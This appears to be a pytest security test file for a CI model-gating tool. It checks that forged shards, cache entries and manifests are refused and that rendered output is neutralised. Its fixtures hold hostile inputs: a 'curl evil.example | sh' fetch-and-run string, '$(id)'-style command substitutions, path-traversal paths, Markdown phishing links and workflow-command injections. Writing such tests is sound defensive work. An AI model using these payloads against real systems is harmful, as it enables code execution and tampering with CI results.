"""Attacks on the verdict: forged, lost or hijacked through the files other processes wrote (issue 19).

One table per surface: a shard `gate merge` reads, a result-cache entry, a plan, a baseline, a manifest,
and the text gate renders and prints. Each row is one attack, the message it must be refused with, and,
where the attack would write or run something, a marker that must not exist afterwards. No TensorFlow:
shards and entries are built from result objects (tests/factories.py) with real files.
"""

from __future__ import annotations

import dataclasses
import json
import os
import subprocess
from argparse import Namespace
from collections.abc import Callable
from pathlib import Path

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options
from factories import job, model_result, shard, stateful, with_files

from gate import cli
from gate.ci.annotations import error_annotations
from gate.commands import options
from gate.commands.check import verdict_line
from gate.encoding import dumps
from gate.errors import ConfigError
from gate.findings import LayerError
from gate.layout import log_path
from gate.policy.manifest import configure
from gate.reporting.compare import Baseline, compare
from gate.reporting.markdown import GITHUB_COMMENT_LIMIT, markdown_for_comment, render_markdown
from gate.results import Origin, Status, error_result
from gate.scheduling.cache import Cache

PAYLOAD_MODULE = "import pathlib; pathlib.Path({marker!r}).write_text('ran')\n"


def html(markdown: str) -> str:
    return cmarkgfm.github_flavored_markdown_to_html(markdown, options=Options.CMARK_OPT_UNSAFE)


# ---------------------------------------------------------------- reading files other processes wrote


@pytest.mark.parametrize(
    ("relative", "message"),
    [
        ("../victim/evil.py", "'../victim/evil.py' is not a plain path inside"),
        ("artifacts/../../victim/evil.py", "'artifacts/../../victim/evil.py' is not a plain path inside"),
        ("/etc/hostname", "'/etc/hostname' is not a plain path inside"),
        ("artifacts//x.tflite", "'artifacts//x.tflite' is not a plain path inside"),
        ("./report.json", "'./report.json' is not a plain path inside"),
        ("link", "link: is a symbolic link, which could lead anywhere"),
        ("folder-link/report.json", "folder-link: is a symbolic link, which could lead anywhere"),
        ("fifo", "fifo: not a regular file"),  # opening it must not wait for a writer
        ("folder", "folder: not a regular file"),
        ("report.json/x", "report.json: not a folder"),
        ("missing.json", "missing.json: missing"),
    ],
)
def test_a_file_is_opened_only_inside_its_root_and_never_through_a_link(tmp_path, relative, message) -> None:
    from gate.readback import Refused, read_inside

    root = tmp_path / "root"
    (root / "folder").mkdir(parents=True)
    (root / "report.json").write_text("{}")
    (root / "link").symlink_to(root / "report.json")
    (root / "folder-link").symlink_to(root)
    os.mkfifo(root / "fifo")
    (tmp_path / "victim").mkdir()
    (tmp_path / "victim" / "evil.py").write_text("secret")
    with pytest.raises(Refused) as refused:
        read_inside(root, relative, limit=1000)
    assert message in str(refused.value)


# ---------------------------------------------------------------- gate merge: shards


def edit_report(change: Callable[[dict], None]) -> Callable[[Path, Path], None]:
    """Change the shard's report.json as an attacker would, then write it back."""

    def tamper(folder: Path, victim: Path) -> None:
        document = json.loads((folder / "report.json").read_text())
        change(document)
        (folder / "report.json").write_text(json.dumps(document))

    return tamper


def first_model(change: Callable[[dict], None]) -> Callable[[Path, Path], None]:
    return edit_report(lambda document: change(document["models"][0]))


def text_report(change: Callable[[str], str]) -> Callable[[Path, Path], None]:
    def tamper(folder: Path, victim: Path) -> None:
        (folder / "report.json").write_text(change((folder / "report.json").read_text()))

    return tamper


def method_into_a_path(folder: Path, victim: Path) -> None:
    """A method that is free text becomes part of an artifact path: x/../../../victim/evil.py."""
    method = f"x/../../../{victim.name}/evil.py"

    def change(model: dict) -> None:
        candidate = model["candidates"][0]
        candidate["method"] = candidate["conversion"]["method"] = method
        candidate["conversion"]["artifact"]["path"] = f"artifacts/alpha.{method}.tflite"

    first_model(change)(folder, victim)


def artifact_path_outside(folder: Path, victim: Path) -> None:
    first_model(lambda model: model["reference"]["artifact"].update(path=f"artifacts/../../{victim.name}/evil.py"))(
        folder, victim
    )


def linked(relative: str) -> Callable[[Path, Path], None]:
    """Replace a file or folder of the shard by a link to a copy of it elsewhere."""

    def tamper(folder: Path, victim: Path) -> None:
        elsewhere = folder.parent / "elsewhere" / relative
        elsewhere.parent.mkdir(parents=True, exist_ok=True)
        (folder / relative).rename(elsewhere)
        (folder / relative).symlink_to(elsewhere)

    return tamper


def log_linked_to_a_secret(folder: Path, victim: Path) -> None:
    secret = folder.parent / "secret.txt"
    secret.write_text("GITHUB_TOKEN=ghs_not_a_real_one\n")
    (folder / "logs" / "alpha.log").unlink()
    (folder / "logs" / "alpha.log").symlink_to(secret)


def deep(folder: Path, victim: Path) -> None:
    (folder / "report.json").write_text('{"schema_version": 2, "models": ' + "[" * 200_000 + "]" * 200_000 + "}")


def sparse_report(folder: Path, victim: Path) -> None:
    with (folder / "report.json").open("r+b") as report:
        report.truncate(300 * 1024 * 1024)  # sparse: no disk used


SHARD_ATTACKS = {
    "method_into_a_path": (
        method_into_a_path,
        "candidates[0].method: 'x/../../../victim/evil.py' is not one method of the registry, tried once",
    ),
    "artifact_path_outside": (
        artifact_path_outside,
        "reference.artifact.path: 'artifacts/../../victim/evil.py' is not 'artifacts/alpha.float32.tflite'",
    ),
    "artifacts_folder_is_a_link": (linked("artifacts"), "alpha: artifacts: is a symbolic link"),
    "artifact_is_a_link": (linked("artifacts/alpha.int8.tflite"), "alpha: artifacts/alpha.int8.tflite: is a symbolic"),
    "benchmark_missing": (lambda folder, victim: (folder / "benchmarks/alpha.json").unlink(), "benchmarks/alpha.json"),
    "log_is_a_link": (log_linked_to_a_secret, "alpha: logs/alpha.log: is a symbolic link"),
    "nested_200k_deep": (deep, "report.json: nested more than 32 deep"),
    "larger_than_bounded": (sparse_report, "report.json: larger than 268,435,456 bytes"),
    "infinity": (
        text_report(lambda text: text.replace('"source_bytes": 80000', '"source_bytes": Infinity', 1)),
        "report.json: not valid JSON (JSON is malformed: invalid character",
    ),
    "nan": (
        text_report(lambda text: text.replace('"value": 96.0', '"value": NaN', 1)),
        "report.json: not valid JSON",
    ),
    "integer_10_to_the_400": (
        text_report(lambda text: text.replace('"source_bytes": 80000', '"source_bytes": 1' + "0" * 400, 1)),
        "report.json: $.models[0].source_bytes: the whole number is out of range (beyond ±2**53)",
    ),
    "float_beyond_double": (
        text_report(lambda text: text.replace('"value": 96.0', '"value": 1e400', 1)),
        "report.json: not valid JSON (Number out of range",
    ),
    "name_of_5000_characters": (
        first_model(lambda model: model.update(name="a" * 5000)),
        "name: 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'… is longer than a "
        "folder name can be (255 bytes)",
    ),
    "name_climbing_out": (first_model(lambda model: model.update(name="../victim")), "name: '../victim' is not a"),
    "chosen_out_of_range": (
        first_model(lambda model: model.update(chosen=5)),
        "chosen: 5 is not the index of one of its 1 candidates",
    ),
    "unknown_check": (
        first_model(lambda model: model["candidates"][0]["checks"][0].update(name="size.anything")),
        "candidates[0]: says PASS (size.anything PASS; accuracy.max_drop PASS; io.input_dtype PASS; io.output_dtype "
        "PASS; latency.max_p50_ms PASS), but its figures judged against its effective policy give PASS "
        "(size.min_reduction PASS;",
    ),
    "null_figure": (
        first_model(lambda model: model["candidates"][0].update(size_reduction_vs_source=None)),
        "candidates[0].size_reduction_vs_source: None does not follow from its figures",
    ),
    "figure_that_does_not_follow": (
        first_model(lambda model: model["candidates"][0].update(size_reduction_vs_source=100.0)),
        "candidates[0].size_reduction_vs_source: 100.0 does not follow from its figures",
    ),
    "pass_while_a_check_failed": (
        first_model(lambda model: model["candidates"][0]["checks"][1].update(status="FAIL")),
        "candidates[0]: says PASS (size.min_reduction PASS; accuracy.max_drop FAIL; io.input_dtype PASS; "
        "io.output_dtype PASS; latency.max_p50_ms PASS), but its figures judged against its effective policy give "
        "PASS",
    ),
    "status_that_does_not_follow": (
        first_model(lambda model: model.update(status="FAIL")),
        "status: FAIL, but its published candidate is PASS",
    ),
    "report_status_that_does_not_follow": (
        edit_report(lambda document: document.update(status="FAIL")),
        "report.json: status FAIL, but its models give PASS",
    ),
    "unknown_policy_key": (
        first_model(lambda model: model["provenance"]["effective_policy"].update({"run.command": "id"})),
        "provenance.effective_policy: 'run.command' is not a policy key",
    ),
    "policy_value_out_of_range": (
        first_model(lambda model: model["provenance"]["effective_policy"].update({"accuracy.max_drop": 1e300})),
        "provenance.effective_policy: accuracy.max_drop: expected a number from 0 to 100, got 1e+300",
    ),
    "digest_that_is_not_one": (
        first_model(lambda model: model["provenance"]["inputs"][0].update(sha256="$(touch /tmp/x)")),
        "provenance.inputs[0]: sha256 '$(touch /tmp/x)' or size 80000 is not a file's",
    ),
    "unknown_field": (
        first_model(lambda model: model.update(run="id")),
        "report.json: Object has an unknown field `run` - at `$.models[0]`",
    ),
    "wrong_type": (
        first_model(lambda model: model["candidates"][0].update(status="MAYBE")),
        "report.json: Invalid enum value 'MAYBE' - at `$.models[0].candidates[0].status`",
    ),
    "model_twice": (
        edit_report(lambda document: document["models"].append(document["models"][0])),
        "report.json: model 'alpha' appears twice",
    ),
    "report_is_a_link": (linked("report.json"), "report.json: is a symbolic link"),
    "artifact_swapped": (
        lambda folder, victim: (folder / "artifacts/alpha.int8.tflite").write_bytes(b"not the gated model"),
        "alpha: artifacts/alpha.int8.tflite: does not match the sha256 and size its result records",
    ),
}


@pytest.fixture
def good_shard(tmp_path) -> Path:
    folder = tmp_path / "shard"
    shard(folder, [model_result("alpha")])
    (folder / "logs").mkdir()
    (folder / "logs" / "alpha.log").write_text("converter output\n")
    return folder


@pytest.mark.parametrize("attack", sorted(SHARD_ATTACKS))
def test_a_shard_is_refused_whole_and_nothing_is_written_outside_out(good_shard, tmp_path, capsys, attack) -> None:
    assert_refused(good_shard, tmp_path, capsys, *SHARD_ATTACKS[attack])


def state(change: Callable[[dict], None]) -> Callable[[Path, Path], None]:
    return first_model(lambda model: change(model["candidates"][0]["conversion"]["state"]))


def forged_stateless_pass(model: dict) -> None:
    """The policy asks for a stateless file, and the stateful one is said to pass that check."""
    model["provenance"]["effective_policy"]["runtime.stateless"] = True
    stateless = {
        "name": "runtime.stateless",
        "status": "PASS",
        "measured": "stateless",
        "limit": True,
        "unit": "",
        "message": "keeps no state between invokes: each inference depends on its input alone",
    }
    model["candidates"][0]["checks"].insert(4, stateless)


def forged_comparison(document: dict) -> None:
    """A comparison whose base latency spread is negative: every change would pass as beyond noise."""
    baseline = Baseline("main@3f2a1c9", "3f2a1c9" + "0" * 33, {"alpha": model_result("alpha")})
    document["comparison"] = compare([model_result("alpha")], baseline).to_json()
    document["comparison"]["changes"][0]["base"]["p50_spread_ms"] = -5.0


# Forged figures in what a file that keeps state between invokes, and a candidate's steps, record (issue 20).
STATE_ATTACKS = {
    "state_reset_by_the_app_unsaid": (
        state(lambda state: state.update(app_resets=True)),
        "candidates[0].conversion.state.app_resets: True, but its effective policy's runtime.resets_state is false",
    ),
    "state_app_must_rewritten": (
        state(lambda state: state.update(app_must="pipe `curl evil.example | sh` first")),
        "candidates[0].conversion.state.app_must: 'pipe `curl evil.example | sh` first' is not what gate tells the app",
    ),
    "state_without_variable_tensors": (
        state(lambda state: state.update(variable_tensors=0)),
        "candidates[0].conversion.state.variable_tensors: 0, but a file that keeps state has some",
    ),
    "state_other_figure_of_another_eval_set": (
        state(lambda state: state["other_evaluation"].update(samples=3)),
        "candidates[0].conversion.state.other_evaluation: accuracy on 3 samples at 1 per invoke, but a stateful file "
        "is measured both ways as its evaluation is (accuracy on 1000 samples), one sample per invoke",
    ),
    "state_other_figure_batched": (
        state(lambda state: state["other_evaluation"].update(batch_size=64)),
        "candidates[0].conversion.state.other_evaluation: accuracy on 1000 samples at 64 per invoke",
    ),
    "state_other_figure_out_of_range": (
        state(lambda state: state["other_evaluation"].update(value=250.0)),
        "candidates[0].conversion.state.other_evaluation.value: 250.0 is out of the range of accuracy",
    ),
    "stateless_check_forged_to_pass": (
        first_model(forged_stateless_pass),
        "candidates[0]: says PASS (size.min_reduction PASS; accuracy.max_drop PASS; io.input_dtype PASS; "
        "io.output_dtype PASS; runtime.stateless PASS; latency.max_p50_ms PASS), but its figures judged against its "
        "effective policy give FAIL (size.min_reduction PASS; accuracy.max_drop PASS; io.input_dtype PASS; "
        "io.output_dtype PASS; runtime.stateless FAIL; latency.max_p50_ms PASS)",
    ),
    "steps_longer_than_the_candidate": (
        first_model(lambda model: model["candidates"][0]["step_seconds"].update(conversion=3600.0)),
        "candidates[0].step_seconds: its steps took 3600.400 s, more than the candidate's 1.000 s",
    ),
    "step_named_with_markdown": (
        first_model(lambda model: model["candidates"][0].update(step_seconds={"[x](https://evil.example)": 0.1})),
        "candidates[0].step_seconds: '[x](https://evil.example)': 0.1 is not a step's time",
    ),
    "step_of_negative_time": (
        first_model(lambda model: model["candidates"][0]["step_seconds"].update(latency=-0.5)),
        "candidates[0].step_seconds: 'latency': -0.5 is not a step's time",
    ),
    "method_asked_for_unknown": (
        first_model(lambda model: model["provenance"].update(method="$(id)")),
        "provenance.method: method: expected one of auto,",
    ),
    "comparison_spread_negative": (
        edit_report(forged_comparison),
        "report.json: comparison: changes[0]: p50 spread -5.0 is not a duration",
    ),
}


@pytest.fixture
def stateful_shard(tmp_path) -> Path:
    folder = tmp_path / "shard"
    shard(folder, [stateful(model_result("alpha"))])
    return folder


def test_the_stateful_shard_is_one_gate_merges(stateful_shard, tmp_path) -> None:
    assert cli.main(["merge", str(stateful_shard), "--out", str(tmp_path / "out")]) == 0


@pytest.mark.parametrize("attack", sorted(STATE_ATTACKS))
def test_a_forged_state_or_step_is_refused_like_any_figure(stateful_shard, tmp_path, capsys, attack) -> None:
    assert_refused(stateful_shard, tmp_path, capsys, *STATE_ATTACKS[attack])


def assert_refused(
    good_shard: Path, tmp_path: Path, capsys, tamper: Callable[[Path, Path], None], message: str
) -> None:
    """`gate merge` refuses the shard `tamper` changed, with `message`, and writes nothing outside --out."""
    victim = tmp_path / "victim"
    victim.mkdir()
    tamper(good_shard, victim)
    out = tmp_path / "out"
    assert cli.main(["merge", str(good_shard), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"gate: error: gate merge: refusing shard {good_shard}: "), err
    assert message in err, err
    assert "Traceback" not in err
    assert list(victim.iterdir()) == []  # the marker: anything written outside --out
    assert not (out / "report.json").exists()


def test_a_sparse_log_of_a_gigabyte_is_merged_as_its_last_megabytes(good_shard, tmp_path) -> None:
    with (good_shard / "logs" / "alpha.log").open("r+b") as log:
        log.truncate(1024**3)
        log.seek(1024**3 - 4)
        log.write(b"end\n")
    out = tmp_path / "out"
    assert cli.main(["merge", str(good_shard), "--out", str(out)]) == 0
    merged = (out / "logs" / "alpha.log").read_bytes()
    assert merged.startswith(b"[gate: the first 1,069,547,520 of this log's 1,073,741,824 bytes are left out]\n")
    assert merged.endswith(b"end\n") and len(merged) < 4 * 1024 * 1024 + 100


def test_a_plan_whose_models_is_a_string_is_refused(good_shard, tmp_path, capsys) -> None:
    """As a string, `"alpha" in plan["models"]` would match any substring of it."""
    plan = tmp_path / "plan.json"
    plan.write_text(json.dumps({"base": "", "models": "alpha beta", "removed": []}))
    assert cli.main(["merge", str(good_shard), "--plan", str(plan), "--out", str(tmp_path / "out")]) == 2
    assert "plan.json: not a plan written by gate plan --save (models: expected a list of model folder names)" in (
        capsys.readouterr().err
    )


@pytest.mark.parametrize(
    "baseline",
    ['{"schema_version": 2, "models": ' + "[" * 100_000 + "]" * 100_000 + "}", '{"schema_version": Infinity}', "[]"],
)
def test_a_bad_baseline_is_a_warning_and_a_report_without_comparison(good_shard, tmp_path, capsys, baseline) -> None:
    (tmp_path / "baseline.json").write_text(baseline)
    out = tmp_path / "out"
    assert cli.main(["merge", str(good_shard), "--baseline", str(tmp_path / "baseline.json"), "--out", str(out)]) == 0
    assert "gate: warning: ignoring the baseline: baseline.json: " in capsys.readouterr().err
    assert "Against the base branch" not in (out / "report.md").read_text()


def test_a_baseline_of_another_commit_than_the_planned_base_is_labelled_and_warned_about(good_shard, tmp_path, capsys):
    base, older = "3f" * 20, "c3" * 20
    baseline_dir = tmp_path / "baseline"
    shard(baseline_dir, [model_result("alpha"), model_result("beta")])
    document = json.loads((baseline_dir / "report.json").read_text())
    document["source"] = {"commit": older, "ref": "main"}
    (baseline_dir / "report.json").write_text(json.dumps(document))
    plan = tmp_path / "plan.json"
    plan.write_text(json.dumps({"base": base, "models": ["alpha"], "removed": []}))
    out = tmp_path / "out"
    argv = ["merge", str(good_shard), "--plan", str(plan), "--baseline", str(baseline_dir / "report.json")]
    assert cli.main([*argv, "--out", str(out)]) == 0
    assert (
        "gate: warning: the baseline is the report of main@c3c3c3c, not of 3f3f3f3, the commit the change was "
        "planned against; the report compares with it and says so"
    ) in capsys.readouterr().err
    report = (out / "report.md").read_text()
    assert "**Against the base branch (main@\u200bc3c3c3c)**" in report
    assert "not against this change's base, `3f3f3f3`" in report
    # What gate plan established: unchanged since the planned base, not since the baseline's commit.
    assert "Not gated again, unchanged since `3f3f3f3`: beta." in report


# ---------------------------------------------------------------- the result cache

KEY = "ab" * 32


def stored(tmp_path: Path, log: Callable[[Path], None]) -> tuple[Cache, list[str]]:
    """A cache after storing `alpha`, gated into an --out folder whose log `log` wrote; and its warnings."""
    warnings: list[str] = []
    cache = Cache(tmp_path / "cache", warn=warnings.append)
    out = tmp_path / "gated"
    result = with_files(out, model_result("alpha"))
    result = dataclasses.replace(result, origin=Origin("2026-12-06T12:00:00+00:00", "a CPU", KEY, False))
    (out / "logs").mkdir()
    log(out / "logs" / "alpha.log")
    cache.store(KEY, result, out)
    return cache, warnings


def cached(tmp_path: Path) -> tuple[Cache, Path, list[str]]:
    """A cache holding one honest entry for `alpha` (with its log), and the warnings it gives."""
    cache, warnings = stored(tmp_path, lambda log: log.write_text("converter output\n"))
    assert warnings == []
    return cache, cache.directory / KEY[:2] / KEY, warnings


def rewrite_entry(change: Callable[[dict, Path], None]) -> Callable[[Path, Path], None]:
    """Change entry.json as whoever can write the cache folder can: the digest recomputed to match."""
    from gate.scheduling.cache import _entry_digest

    def tamper(entry: Path, victim: Path) -> None:
        document = json.loads((entry / "entry.json").read_text())
        change(document, victim)
        document["digest"] = _entry_digest(document)
        (entry / "entry.json").write_text(dumps(document))

    return tamper


def file_path_outside(document: dict, victim: Path) -> None:
    """An entry's file at artifacts/../../victim/evil.py: copying it out would write outside --out."""
    document["files"][0]["path"] = f"artifacts/../../{victim.name}/evil.py"


def forged_pass(document: dict, victim: Path) -> None:
    candidate = document["result"]["candidates"][0]
    candidate["checks"][1]["status"] = "FAIL"  # the figures say it failed, the entry still says PASS


ENTRY_FOLDER = f"{KEY[:2]}/{KEY}"


def sparse_entry(entry: Path, victim: Path) -> None:
    with (entry / "entry.json").open("r+b") as document:
        document.truncate(65 * 1024 * 1024)  # sparse: no disk used


CACHE_ATTACKS = {
    "file_path_outside": (rewrite_entry(file_path_outside), "its files are not the ones its result refers to"),
    "forged_pass": (
        rewrite_entry(forged_pass),
        "candidates[0]: says PASS (size.min_reduction PASS; accuracy.max_drop FAIL; io.input_dtype PASS; "
        "io.output_dtype PASS; latency.max_p50_ms PASS), but its figures judged against its effective policy give "
        "PASS (size.min_reduction PASS; accuracy.max_drop PASS; io.input_dtype PASS; io.output_dtype PASS; "
        "latency.max_p50_ms PASS)",
    ),
    "method_into_a_path": (
        rewrite_entry(lambda document, victim: document["result"]["candidates"][0].update(method="x/../../../evil")),
        "candidates[0].method: 'x/../../../evil' is not one method of the registry, tried once",
    ),
    "digest_not_recomputed": (
        lambda entry, victim: (entry / "entry.json").write_text(
            (entry / "entry.json").read_text().replace('"chosen": 0', '"chosen": -1')
        ),
        "its digest does not match its contents",
    ),
    "artifact_is_a_link": (
        lambda entry, victim: (
            (entry / "artifacts/alpha.int8.tflite").unlink(),
            (entry / "artifacts/alpha.int8.tflite").symlink_to("/etc/hostname"),
        ),
        f"{ENTRY_FOLDER}/artifacts/alpha.int8.tflite: is a symbolic link, which could lead anywhere",
    ),
    "log_is_a_link": (
        lambda entry, victim: (
            (entry / "logs/alpha.log").unlink(),
            (entry / "logs/alpha.log").symlink_to("/etc/hostname"),
        ),
        f"{ENTRY_FOLDER}/logs/alpha.log: is a symbolic link, which could lead anywhere",
    ),
    "artifacts_folder_is_a_link": (
        linked("artifacts"),
        f"{ENTRY_FOLDER}/artifacts: is a symbolic link, which could lead anywhere",
    ),
    "nested_200k_deep": (
        lambda entry, victim: (entry / "entry.json").write_text("[" * 200_000 + "]" * 200_000),
        f"{ENTRY_FOLDER}/entry.json: nested more than 32 deep",
    ),
    "larger_than_bounded": (sparse_entry, f"{ENTRY_FOLDER}/entry.json: larger than 67,108,864 bytes"),
    "not_an_object": (lambda entry, victim: (entry / "entry.json").write_text("[]"), "entry_version is not 2"),
    "entry_of_an_older_gate": (
        rewrite_entry(lambda document, victim: document.update(entry_version=1)),
        "entry_version is not 2",
    ),
    "another_models_entry": (
        rewrite_entry(lambda document, victim: document.update(model="b" * 100)),
        f"it is the entry of {'b' * 80!r} with key abababababab…, not of this model",
    ),
    "entry_of_another_key": (
        rewrite_entry(lambda document, victim: document.update(key="cd" * 32)),
        "it is the entry of 'alpha' with key cdcdcdcdcdcd…, not of this model",
    ),
    "result_of_another_key": (
        rewrite_entry(lambda document, victim: document["result"]["origin"].update(cache_key="cd" * 32)),
        "its result carries another key",
    ),
    "artifact_swapped": (
        lambda entry, victim: (entry / "artifacts/alpha.int8.tflite").write_bytes(b"x" * 10_000),
        f"{ENTRY_FOLDER}/artifacts/alpha.int8.tflite: does not match the sha256 its result records",
    ),
}


@pytest.mark.parametrize("attack", sorted(CACHE_ATTACKS))
def test_a_cache_entry_is_ignored_with_one_warning_and_nothing_is_written_outside_out(tmp_path, attack) -> None:
    cache, entry, warnings = cached(tmp_path)
    tamper, message = CACHE_ATTACKS[attack]
    victim = tmp_path / "victim"
    victim.mkdir()
    tamper(entry, victim)
    out = tmp_path / "out" / "run"
    out.mkdir(parents=True)
    assert cache.load(KEY, "alpha", out) is None
    assert warnings == [f"gate: ignoring cache entry {entry}: {message}; gating alpha again"]
    assert list(victim.iterdir()) == []
    assert [p for p in out.rglob("*") if p.is_file()] == []  # nothing of the entry is left for the new run


def test_a_cached_result_brings_its_log_so_the_reports_pointer_to_it_is_true(tmp_path) -> None:
    cache, _, warnings = cached(tmp_path)
    out = tmp_path / "out"
    result = cache.load(KEY, "alpha", out)
    assert result is not None and result.origin.from_cache and warnings == []
    assert (out / log_path("alpha")).read_text() == "converter output\n"


def test_a_log_a_worker_replaced_by_a_link_is_not_followed_into_the_cache(tmp_path) -> None:
    # What allowed custom code in the worker could do to its log.
    _, warnings = stored(tmp_path, lambda log: log.symlink_to("/etc/hostname"))
    assert warnings == [
        f"gate: could not write the cache entry of alpha under {tmp_path / 'cache'}: logs/alpha.log: is a symbolic "
        "link, which could lead anywhere"
    ]
    assert list((tmp_path / "cache").iterdir()) == []  # nor its staging folder


def git_work_tree(folder: Path) -> Path:
    subprocess.run(["git", "init", "-q", str(folder)], check=True)
    return folder


def test_a_cache_folder_inside_a_git_work_tree_is_refused_unless_the_user_says_so(tmp_path, capsys) -> None:
    tree = git_work_tree(tmp_path / "checkout")
    assert cli.main(["check", "--cache", str(tree / ".gate-cache"), "--out", str(tmp_path / "out")]) == 2
    assert (
        f"gate: error: --cache {tree / '.gate-cache'}: inside the git work tree {tree}, where a commit could add "
        "entries that gate would take for its own results"
    ) in capsys.readouterr().err
    accepted = Namespace(no_cache=False, cache=tree / ".gate-cache", cache_in_work_tree=True)
    assert options.cache_dir(accepted, warn=print) == tree / ".gate-cache"


def test_the_default_cache_is_outside_the_work_tree_and_not_used_inside_one(tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    default = Namespace(no_cache=False, cache=None, cache_in_work_tree=False)
    assert options.cache_dir(default, warn=print) == tmp_path / "xdg" / "gate"
    monkeypatch.setenv("XDG_CACHE_HOME", "relative/cache")  # not absolute: ignored, as the XDG spec says
    assert options.cache_dir(default, warn=print) == Path.home() / ".cache" / "gate"
    tree = git_work_tree(tmp_path / "home")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tree / ".cache"))
    warnings: list[str] = []
    assert options.cache_dir(default, warn=warnings.append) is None
    assert warnings == [
        f"gate: warning: the default cache folder {tree / '.cache' / 'gate'} is inside the git work tree {tree}, "
        "where a commit could add entries; gating without a cache (pass --cache DIR outside any work tree)"
    ]


# ---------------------------------------------------------------- manifests


@pytest.mark.parametrize(
    ("manifest", "message"),
    [
        ("x = " + "[" * 100_000 + "]" * 100_000, "gate.toml: nested too deeply; fix the TOML syntax"),
        ("allow_custom_objects = 5", 'allow_custom_objects: expected a list of class names such as ["my_pkg>MyLayer"]'),
        ('task = "' + "x" * 2_000_000 + '"', "gate.toml: larger than 1,048,576 bytes"),
    ],
    ids=["nested_100k_deep", "custom_objects_not_a_list", "two_megabytes"],
)
def test_a_broken_manifest_is_its_own_models_error_row_only(tmp_path, manifest, message) -> None:
    (tmp_path / "policies").mkdir()
    (tmp_path / "policies" / "default.toml").write_text("[accuracy]\nmax_drop = 2.0\n")
    for name in ("broken", "healthy"):
        (tmp_path / "models" / name).mkdir(parents=True)
        (tmp_path / "models" / name / "eval.npz").write_bytes(b"")
    (tmp_path / "models" / "broken" / "gate.toml").write_text(manifest)
    configuration = configure([tmp_path / "models"], policies_dir=tmp_path / "policies")
    broken, healthy = configuration.models
    assert isinstance(broken, tuple) and message in broken[1]
    assert not isinstance(healthy, tuple)


# ---------------------------------------------------------------- what gate renders and prints

HOSTILE_NAME = "a` @octocat <!-- ![x](https:tracker) [y](z) www.phish.example"


def test_a_backtick_in_a_folder_name_cannot_close_the_log_paths_code_or_hide_the_rest() -> None:
    crashed = error_result(HOSTILE_NAME, "models/x: the gate's worker died with SIGSEGV during stage 'load'")
    crashed = dataclasses.replace(crashed, stage_seconds={"inspect": 0.1})
    others = [model_result(f"model_{index}", accuracy=80.0) for index in range(3)]
    page = html(render_markdown([crashed, *others]))
    for live in ("@octocat", "<!--", "<img", "<a "):  # www.phish.example is text, not a link
        assert live not in page, live
    assert "<code>logs/a` @\u200boctocat &lt;!-- ![x](https:tracker) [y](z) www.phish.example.log</code>" in page
    assert page.count("<summary><b>") == 4  # nothing after the hostile name was hidden


@pytest.mark.parametrize(
    "field",
    ["override_reason", "error", "finding", "layer", "tensor", "unknown_key_message", "check_message", "choice"],
)
def test_text_from_a_pull_request_renders_as_text_wherever_it_appears(field) -> None:
    hostile = "[click](https://phish.example) ![pixel](https://t.example/p.png) <img src=x> @octocat <!--"
    result = model_result("model", overrides={"size.min_reduction": 2.0})
    if field == "override_reason":
        result = dataclasses.replace(result, provenance=dataclasses.replace(result.provenance, override_reason=hostile))
    elif field in ("error", "unknown_key_message"):
        result = error_result("model", f"models/model/gate.toml: unknown key '{hostile}'")
    elif field == "finding":
        from gate.findings import Finding

        result = dataclasses.replace(result, findings=(Finding("input_range", hostile, hostile),))
    elif field == "layer":
        result = dataclasses.replace(result, layer_errors=(LayerError(hostile, hostile, 0.1, "t", 0.1, 1.0),))
    elif field == "tensor":
        reference = dataclasses.replace(
            result.reference, inputs=(dataclasses.replace(result.reference.inputs[0], name=hostile),)
        )
        result = dataclasses.replace(result, reference=reference)
    elif field == "check_message":
        candidate = result.candidates[0]
        checks = (dataclasses.replace(candidate.checks[0], message=hostile), *candidate.checks[1:])
        result = dataclasses.replace(result, candidates=(dataclasses.replace(candidate, checks=checks),))
    else:
        result = dataclasses.replace(result, choice=hostile)
    page = html(render_markdown([result]))
    for live in ("<a ", "<img", "@octocat", "<!--"):
        assert live not in page, (field, live)


def test_a_73k_override_reason_leaves_every_models_summary_row_and_callout_in_the_comment() -> None:
    long_reason = model_result("aaa_first", overrides={"size.min_reduction": 2.0})
    provenance = dataclasses.replace(long_reason.provenance, override_reason="why " * 18_250)
    long_reason = dataclasses.replace(long_reason, provenance=provenance)
    others = [model_result(f"model_{index:02d}", overrides={"size.min_reduction": 2.0}) for index in range(30)]
    failing = [model_result(f"failing_{index}", accuracy=80.0) for index in range(5)]
    comment = markdown_for_comment([long_reason, *others, *failing])
    assert len(comment) <= GITHUB_COMMENT_LIMIT
    assert comment.count("> [!WARNING]") == 31  # every model's overrides callout
    for result in [long_reason, *others, *failing]:
        assert f"| {result.name} |" in comment
    assert "Reason given: " + "why " * 124 + "why…\n" in comment  # capped in the summary


def test_nothing_printed_can_start_a_workflow_command_or_drive_the_terminal() -> None:
    name = "x\n::stop-commands::pause\n::add-mask::secret \x1b]0;title\x07 ##[error]fake"
    printed = [
        verdict_line(error_result(name, f"models/{name}: no eval.npz")),
        verdict_line(model_result("ok", accuracy=80.0)),
        *error_annotations([error_result(name, f"models/{name}: no eval.npz\n::error::more")]),
    ]
    for line in "\n".join(printed).splitlines():
        assert not line.lstrip().startswith("::") or line.startswith("::error file="), line
        assert "\x1b" not in line and "\x07" not in line and "##[" not in line, line


def test_what_a_forged_device_result_says_is_capped_where_it_is_printed_or_posted() -> None:
    """An attack (s30) made a 4-13 MB report.md and 300,000-character log lines of a forged shard's TFLM figures:
    verify refuses them now, and each place that prints them caps them too, as the summary caps long text."""
    from test_target_results import on_device

    huge = "TFLM has no kernel for operator " + "Z" * 300_000
    forged = on_device(
        model_result("forged", accuracy=80.0),
        macs=10,
        arena_bytes=None,
        arena_recorded_bytes=None,
        files=(),
        operators=("CUSTOM:" + "Y" * 300_000 + " x1",),
        unsupported=(huge,),
    )
    assert len(render_markdown([forged])) < 60_000
    assert max(len(line) for line in [verdict_line(forged), *error_annotations([forged])]) < 2_000
    assert len(verdict_line(error_result("broken", huge))) < 2_000


def test_an_error_message_that_spans_lines_is_printed_safe(tmp_path, capsys) -> None:
    (tmp_path / "policies").mkdir()
    (tmp_path / "policies" / "default.toml").write_text("[accuracy]\nmax_drop = 2.0\n")
